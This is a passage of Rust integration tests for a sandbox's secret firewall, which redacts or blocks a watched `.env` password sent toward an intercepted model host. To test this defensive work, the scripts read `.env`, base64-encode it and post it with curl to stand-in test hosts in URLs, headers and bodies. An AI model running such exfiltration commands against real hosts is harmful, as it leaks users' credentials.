curl -sS --fail --http2 -v -H "X-Key: $TOK" "https://api.test:{port}/close10" "https://api.test:{port}/chunked" "https://api.test:{port}/len" "https://api.test:{port}/close10b" 2>err; echo "curl $?"
grep -c '^< HTTP/2 200' err
grep -i 'INTERNAL_ERROR\|stream error' err; echo done
"#
    );
    let (o, _) = run(&ws, prof, &script);
    let out = ok(&o);
    let ph = placeholder(&out);
    assert!(out.contains("curl 0"), "{out}");
    assert!(
        out.lines().any(|l| l == "4"),
        "four HTTP/2 responses:\n{out}"
    );
    assert!(!out.contains("INTERNAL_ERROR"), "{out}");
    for p in ["/close10 ", "/chunked ", "/len ", "/close10b "] {
        assert!(
            out.contains(&format!("ECHO<<GET {p}HTTP/1.1")),
            "{p}:\n{out}"
        );
    }
    assert_eq!(header_lines(&out, "x-key", &ph), 4, "{out}");
    assert!(!out.contains(REAL), "{out}");
    let seen = srv.seen.lock().expect("lock").join("\n");
    assert_eq!(header_lines(&seen, "x-key", REAL), 4, "{seen}");
}

/// The value of the repository's own `.env` secret (watch-only in the firewall tests).
const DOTENV: &str = "pw-Wat3rmelon-Tr4ctor-51";

/// A profile with the firewall: `model.test` intercepted (no secret injected there),
/// DB_PASSWORD watch-only (its value is in the workspace's `.env`, which the cell
/// reads), TOK injected for api.test as before.
fn firewall_profile(ws: &Ws, srv: &Server, hport: u16, mode: &str) -> (String, Ws) {
    let (prof, vault) = profile(ws, srv, hport, "env", "inject_body = true");
    std::fs::write(ws.join(".env"), format!("DEBUG=1\nDB_PASSWORD={DOTENV}\n")).expect(".env");
    let port = srv.port;
    edit(
        &prof,
        &[
            (
                "allow = [",
                &format!("intercept = [\"model.test\"]\nfirewall = \"{mode}\"\nallow = [\"model.test:{port}\", \"model.test:{hport}\", "),
            ),
            ("\"plain.test\" = ", "\"model.test\" = \"127.0.0.1\", \"plain.test\" = "),
        ],
    );
    let mut text = std::fs::read_to_string(&prof).expect("profile");
    text.push_str(&format!(
        "\n[secrets.DB_PASSWORD]\nfrom = {{ command = [\"sed\", \"-n\", \"s/^DB_PASSWORD=//p\", \"{}\"] }}\ndeliver = \"none\"\n",
        ws.join(".env").display()
    ));
    std::fs::write(&prof, text).expect("profile");
    (prof, vault)
}

/// Issue 14.6, as the attack: an agent reads the repository's `.env` and sends it to
/// its model API (HTTP/1.1 and HTTP/2, with a length and chunked, in the request line,
/// a header and base64 in the body). The intercepted host gets `[secret NAME removed]`
/// with the lengths fixed up; the audit names the secret, never the value. The value
/// injected for api.test still reaches api.test.
#[test]
fn firewall_redacts_watched_secrets_toward_intercepted_hosts() {
    let ws = Ws::new();
    let srv = https_server(&["api.test", "model.test"]);
    let (hport, _) = http_server();
    let (prof, _vault) = firewall_profile(&ws, &srv, hport, "redact");
    let port = srv.port;
    let script = format!(
        r#"echo "PH=$TOK"
V=$(sed -n 's/^DB_PASSWORD=//p' .env)
B=$(base64 -w0 .env)
printf '{{"content":"%s","b64":"%s"}}' "$(cat .env | tr '\n' ' ')" "$B" > req.json
curl -sS --fail --http1.1 "https://model.test:{port}/v1/h1?q=$V" -H "X-Leak: $V" --data-binary @req.json -o h1.out; echo "h1 $?"
curl -sS --fail --http1.1 -H "Transfer-Encoding: chunked" --data-binary @req.json "https://model.test:{port}/v1/chunked" -o chunked.out; echo "chunked $?"
curl -sS --fail --http2 "https://model.test:{port}/v1/h2?q=$V" -H "X-Leak: $V" --data-binary @req.json -o h2.out; echo "h2 $?"
curl -sS --fail "https://api.test:{port}/inject" -H "Authorization: Bearer $TOK" -H "X-Leak: $V" -o inj.out; echo "inject $?"
cat h1.out chunked.out h2.out inj.out
"#
    );
    let (o, audit) = run(&ws, &prof, &script);
    let out = ok(&o);
    for r in ["h1 0", "chunked 0", "h2 0", "inject 0"] {
        assert!(out.contains(r), "{r}:\n{out}");
    }
    let seen = srv.seen.lock().expect("lock").clone();
    assert_eq!(seen.len(), 4, "{seen:?}");
    let all = seen.join("\n----\n");
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD
        .encode(format!("DEBUG=1\nDB_PASSWORD={DOTENV}\n"));
    assert!(
        all.contains(&b64[..8]),
        "the base64 went out at all:\n{all}"
    );
    for s in &seen {
        assert!(!s.contains(DOTENV), "the value reached the host:\n{s}");
        assert!(!s.contains(&b64), "the base64 reached the host:\n{s}");
    }
    // Removed in the request line (percent-encoded), the header and the bodies; the
    // origin read each body by its (fixed-up) length or its chunks.
    assert!(
        all.contains("/v1/h1?q=%5Bsecret%20DB_PASSWORD%20removed%5D HTTP/1.1"),
        "{all}"
    );
    assert!(
        all.contains("/v1/h2?q=%5Bsecret%20DB_PASSWORD%20removed%5D HTTP/1.1"),
        "{all}"
    );
    assert_eq!(
        header_lines(&all, "x-leak", "[secret DB_PASSWORD removed]"),
        3,
        "{all}"
    );
    assert_eq!(
        all.matches("\"content\":\"DEBUG=1 DB_PASSWORD=[secret DB_PASSWORD removed] \"")
            .count(),
        3,
        "{all}"
    );
    for s in &seen[..3] {
        assert!(s.ends_with("\"}"), "a body was cut or overran:\n{s}");
    }
    // The value injected for api.test is not the firewall's business there.
    assert_eq!(
        header_lines(&seen[3], "authorization", &format!("Bearer {REAL}")),
        1,
        "{}",
        seen[3]
    );
    assert!(audit.contains("\"event\":\"secret_firewall\""), "{audit}");
    assert!(audit.contains("\"name\":\"DB_PASSWORD\""), "{audit}");
    assert!(audit.contains("\"action\":\"redacted\""), "{audit}");
    assert!(audit.contains("\"host\":\"model.test\""), "{audit}");
    assert!(!audit.contains(DOTENV) && !audit.contains(REAL), "{audit}");
    // Watch-only: not delivered (no variable, no file), and masked in the output.
    assert!(!out.contains(DOTENV), "{out}");
}

/// `[network] firewall = "block"`: the request is refused and nothing of it reaches the
/// host (HTTP/1.1 and HTTP/2, head and body); a clean request passes.
#[test]
fn firewall_block_refuses_the_request() {
    let ws = Ws::new();
    let srv = https_server(&["api.test", "model.test"]);
    let (hport, _) = http_server();
    let (prof, _vault) = firewall_profile(&ws, &srv, hport, "block");
    let port = srv.port;
    let code = "-s -o /dev/null -w '%{http_code}'";
    let script = format!(
        r#"V=$(sed -n 's/^DB_PASSWORD=//p' .env)
seq 1 200000 > big; cat .env >> big
echo "h1-head: $(curl {code} --http1.1 -H "X-Leak: $V" "https://model.test:{port}/a")"
echo "h1-body: $(curl {code} --http1.1 --data-binary @.env "https://model.test:{port}/b")"
echo "h1-chunked: $(curl {code} --http1.1 -H "Transfer-Encoding: chunked" --data-binary @big "https://model.test:{port}/c")"
echo "h2-body: $(curl {code} --http2 --data-binary @.env "https://model.test:{port}/d")"
echo "plain: $(curl {code} "http://model.test:{hport}/e")"
echo "clean: $(curl {code} --http2 --data-binary "hello" "https://model.test:{port}/ok")"
"#
    );
    let (o, audit) = run(&ws, &prof, &script);
    let out = ok(&o);
    for what in ["h1-head", "h1-body", "h1-chunked", "h2-body", "plain"] {
        assert!(out.contains(&format!("{what}: 403")), "{what}:\n{out}");
    }
    assert!(out.contains("clean: 200"), "{out}");
    let seen = srv.seen.lock().expect("lock").join("\n----\n");
    assert!(seen.contains("POST /ok "), "{seen}");
    assert!(!seen.contains(DOTENV), "{seen}");
    for p in ["/a ", "/b ", "/c ", "/d "] {
        assert!(!seen.contains(p), "{p} completed at the origin:\n{seen}");
    }
    assert!(audit.contains("\"action\":\"blocked\""), "{audit}");
    assert!(audit.contains("\"name\":\"DB_PASSWORD\""), "{audit}");
    assert!(!audit.contains(DOTENV), "{audit}");
    // explain shows the new keys (and never the value).
    let o = taskcell(ws.path(), &["explain", "-p", &prof])
        .output()
        .expect("explain");
    let e = stdout(&o);
    assert!(e.contains("intercept model.test"), "{e}");
    assert!(e.contains("firewall block"), "{e}");
    assert!(e.contains("watch-only"), "{e}");
    assert!(!e.contains(DOTENV), "{e}");
}
